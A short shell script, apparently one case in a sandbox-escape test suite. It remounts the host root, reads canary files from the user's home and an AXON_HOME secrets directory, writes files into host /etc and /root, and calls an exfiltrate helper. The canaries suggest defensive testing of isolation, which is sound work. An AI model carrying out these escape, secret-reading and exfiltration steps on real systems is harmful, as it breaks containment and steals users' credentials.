#!/bin/sh
# Case 1: bind-mount and remount `/` (and unmount what hides the host), then read the canaries
# planted in the user's HOME and AXON_HOME/secrets and create files in host /etc, /root, /tmp.
say "mount escape: $TAG"
open_host
for r in $(roots | sed 's/^$/@/'); do
  [ "$r" = @ ] && r=
  grab_tree "$r$HOST_HOME"
  grab_tree "$r$HOST_AXON_HOME/secrets"
done
scribble
exfiltrate
finish
